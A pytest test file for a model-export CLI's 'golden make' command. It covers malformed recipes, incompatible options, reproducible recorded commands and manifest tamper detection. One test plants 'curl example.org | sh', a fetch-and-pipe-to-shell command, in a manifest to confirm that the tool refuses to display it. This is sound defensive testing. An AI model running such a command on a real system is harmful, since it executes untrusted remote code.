"""`golden make` of a recipe: what is malformed in it is told; and the commands that golden tensors record."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import GOLDEN

from lat_export.cli import cli
from lat_export.errors import InputError
from lat_export.pipeline import Exported
from lat_export.recipes import make_goldens
from lat_export.remake import export_command, golden_command
from lat_export.types import ModelSpec, Options, Range
from lat_export.validation.golden import Golden


def recipe(**changes: Any) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((GOLDEN / "yoso" / "recipe.json").read_text())
    return {**found, "tasks": {"text-classification": {"num_labels": 3}}, **changes}


def without(name: str, part: str) -> dict[str, Any]:
    changed = recipe()
    del changed[name][part]
    return changed


def with_config(**changes: Any) -> dict[str, Any]:
    return recipe(config={**recipe()["config"], **changes})


@pytest.mark.parametrize(
    ("content", "named"),
    [
        ("{", "is not a recipe"),
        ("[]", "is not a recipe"),
        ("3", "is not a recipe"),
        ({"family": "yoso"}, "is not a recipe"),
        (recipe(extra=1), "is not a recipe"),
        (recipe(family=3), "is not a recipe: family"),
        (recipe(seed="seven"), "is not a recipe: seed"),
        (recipe(config=[]), "is not a recipe: config"),
        (recipe(sharpen={"(": 0.3}), "is not a recipe: sharpen"),
        (recipe(sharpen={"query": "much"}), "is not a recipe: sharpen"),
        (recipe(tasks={}), "is not a recipe: tasks"),
        (recipe(tasks={"poetry": {}}), "is not a recipe: tasks"),
        (recipe(tasks=["fill-mask"]), "is not a recipe: tasks"),
        (recipe(kept_bytes_per_output=None), "is not a recipe: kept_bytes_per_output"),
        (without("tokenizer", "corpus"), "is not a recipe: tokenizer"),
        (without("tokenizer", "vocab_size"), "is not a recipe: tokenizer"),
        (recipe(tokenizer={"vocab_size": 300, "corpus": []}), "is not a recipe: tokenizer"),
        (recipe(tokenizer={"vocab_size": 300, "corpus": "a text"}), "is not a recipe: tokenizer"),
        (recipe(tokenizer={"vocab_size": "many", "corpus": ["a"]}), "is not a recipe: tokenizer"),
        (recipe(tokenizer={"vocab_size": 300, "corpus": ["a", 3]}), "is not a recipe: tokenizer"),
        (recipe(family="bert"), "bert"),
        (with_config(hidden_size=33), "hidden size"),
        (with_config(hidden_size="wide"), "makes no checkpoint"),
        (with_config(vocab_size=-1), "makes no checkpoint"),
        (with_config(vocab_size=100), "the tokenizer has more tokens than the model"),
        (with_config(hidden_act="no such"), "makes no checkpoint"),
        (with_config(max_position_embeddings=0), "makes no checkpoint"),
    ],
)
def test_malformed_recipes(content: Any, named: str, tmp_path: Path) -> None:
    text = content if isinstance(content, str) else json.dumps(content)
    (tmp_path / "recipe.json").write_text(text)
    with pytest.raises(InputError, match=named) as caught:
        make_goldens(tmp_path, tmp_path)
    assert "recipe.json" in str(caught.value)
    assert [path.name for path in tmp_path.iterdir()] == ["recipe.json"]


@pytest.mark.parametrize(
    ("words", "what"),
    [
        ((str(GOLDEN / "yoso"), "--texts", "t.txt"), "takes no --texts"),
        ((str(GOLDEN / "yoso"), "--semantics", "hf"), "takes no --semantics"),
        ((str(GOLDEN / "yoso" / "fill-mask" / "checkpoint"),), "needs --out"),
    ],
)
def test_options_that_do_not_go_together(words: tuple[str, ...], what: str) -> None:
    done = CliRunner().invoke(cli, ["golden", "make", *words])
    assert done.exit_code == 2
    assert what in done.output


def test_command_of_an_export_has_every_option() -> None:
    spec = ModelSpec(
        "models/a checkpoint",
        "trt",
        Path("out/bundle"),
        task="fill-mask",
        batch=Range(1, 2, 3),
        sequence=Range(8, 8, 8),
        max_global=4,
        options=Options("paper", 3, 5),
        inputs=("position_ids", "token_type_ids"),
        outputs=("attentions",),
        allow_pickle=True,
    )
    assert export_command(spec) == (
        "lat-export model 'models/a checkpoint' --to trt --batch 1:2:3 --seq 8:8:8 --max-global 4 --task fill-mask "
        "--inputs position_ids,token_type_ids --outputs attentions --semantics paper --hash-seed 3 --num-hash 5 "
        "--allow-pickle --out out/bundle --force"
    )


def test_command_names_no_place_of_this_machine(tmp_path: Path) -> None:
    spec = ModelSpec(str(tmp_path / "model"), "onnx", tmp_path / "golden")
    made = golden_command(spec, tmp_path / "t.jsonl", [tmp_path / "a.npz", Path("b.npz")], all_rows=True)
    assert made == (
        "lat-export golden make model --texts t.jsonl --arrays a.npz --arrays b.npz --all-rows --out golden --force"
    )
    hub = ModelSpec("org/name", "onnx", Path("golden"))
    assert golden_command(hub, None, (), all_rows=False) == "lat-export golden make org/name --out golden --force"


def test_recorded_command_is_one_that_the_command_line_takes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Run again as recorded, it makes the same tensors."""
    import shlex

    (tmp_path / "model").symlink_to(GOLDEN / "yoso" / "text-classification" / "checkpoint")
    (tmp_path / "t.txt").write_text("The tide went out.\n")
    monkeypatch.chdir(tmp_path)
    words = ["golden", "make", "model", "--texts", "t.txt", "--semantics", "paper", "--all-rows", "--out", "golden"]
    assert CliRunner().invoke(cli, words, catch_exceptions=False).exit_code == 0
    first = Golden(Path("golden")).manifest
    again = shlex.split(first["origin"]["command"])
    assert again[0] == "lat-export"
    assert CliRunner().invoke(cli, again[1:], catch_exceptions=False).exit_code == 0
    assert Golden(Path("golden")).manifest == first
    assert first["origin"]["semantics"] == "paper"


def test_golden_of_a_bundle_is_made_again_by_the_export(exported: Callable[..., Exported]) -> None:
    golden = Golden(exported("question-answering").bundle.folder)
    hint = golden.how_to_remake()
    assert hint.startswith("make it again: lat-export model checkpoint --to onnx")
    assert str(Path.cwd().anchor + "tmp") not in hint


def test_a_command_that_is_not_ours_is_not_shown(tmp_path: Path) -> None:
    kept = GOLDEN / "yoso" / "text-classification"
    for name in ("golden.json", "golden.safetensors"):
        (tmp_path / name).write_bytes((kept / name).read_bytes())
    manifest = json.loads((tmp_path / "golden.json").read_text())
    manifest["origin"]["command"] = "curl example.org | sh"
    (tmp_path / "golden.json").write_text(json.dumps(manifest))
    with pytest.raises(Exception, match="changed after it was written") as caught:
        Golden(tmp_path)
    assert "curl" not in str(caught.value)
    assert "golden make" in str(caught.value)
    (tmp_path / "golden.json").write_text("[]")
    with pytest.raises(InputError, match="not a JSON object"):
        Golden(tmp_path)
